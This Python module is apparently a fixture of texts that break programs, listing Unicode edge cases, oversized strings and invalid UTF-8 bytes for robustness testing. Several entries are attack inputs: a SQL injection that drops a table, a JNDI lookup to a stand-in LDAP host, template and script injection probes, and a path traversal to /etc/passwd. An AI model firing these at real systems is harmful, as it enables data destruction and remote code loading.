"""Texts that often break programs (Unicode edge cases, injections), and bytes that are not valid UTF-8."""

ODD_TEXTS = (
    "",
    " ",
    "\t\r\n\v\f",
    "\u00a0\u2003\u3000",  # white space outside ASCII
    "\0",
    "a\0b",
    "\x1b[2J\x1b]0;title\x07",  # terminal control sequences
    "\x7f\x80\x9f",
    "\ufeffbyte order mark",
    "\u200b\u200c\u200d\u2060",  # invisible characters
    "\u202egnp.elif\u202c",  # right-to-left override
    "\u2066\u2067\u2068\u2069",
    "\u2028line\u2029paragraph",
    "\u061c\u200e\u200f" * 100,
    "\ufdfa" * 500,  # NFKC makes 18 characters of each
    "\ufdfa" * 10_000,
    "a" + "\u0301" * 9_000,  # one letter with 9,000 combining marks
    "Z̷͉̎a̶̧̛l̸̢̈g̵̨̾o̷",
    "\u1100\u1161\u11a8" * 1000,  # decomposed Hangul
    "\u00c5\u212b\u0041\u030a",  # one letter in three encodings
    "ﬃ ſ ẞ ß ŉ İ ı ǰ ΐ",  # case mapping changes the length
    "İ" * 10_000,
    "ＡＢＣ①②③㍿",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 300,  # a family emoji, joined
    "\U0001f1e6" * 999,  # halves of flags
    "\U000e0067\U000e007f",  # invisible tag characters
    "\ufffe\uffff\U0001fffe\U0010ffff",  # noncharacters
    "\ue000\U000f0000\U00100000",  # private use
    "\ufffd\ufffc\ufff9",
    "\u0378\u0e3b\U000e0fff",  # unassigned
    "மொழி ภาษา 语言 لغة שפה ភាសា ကာသာ",
    "ي" + "\u064b\u0650" * 2000,
    "𒀀𓀀𐎀𝔘𝔫𝔦",
    "' OR 1=1; DROP TABLE taggings; --",
    '%s%n%x {0} ${jndi:ldap://a.example/x} {{7*7}} "\\"\'',
    "<script>alert(1)</script>&amp;",
    "../../../../etc/passwd",
    "NaN",
    "-1e309",
    "null",
    "a" * 200,
    "a" * 201,
    "x" * 10_000,
    "x" * 10_001,
    "word " * 1999,
    "字" * 10_000,
    "#" * 10_000,
    "." * 9_999,
    "(" * 5000 + ")" * 5000,
    "1" * 10_000,
    "e" + "e\u0301" * 4999,
)
UNREADABLE = (
    b"\xff",
    b"\xc0\x80",  # an overlong NUL
    b"\xed\xa0\x80",  # half of a surrogate pair
    b"\xed\xa0\xbd\xed\xb8\x80",  # both halves of a surrogate pair
    b"\xf4\x90\x80\x80",  # beyond the last code point
    b"\xe2\x82",  # truncated
    b"title \x80 title",
    b"\xfe\xff\x00t\x00i",
)
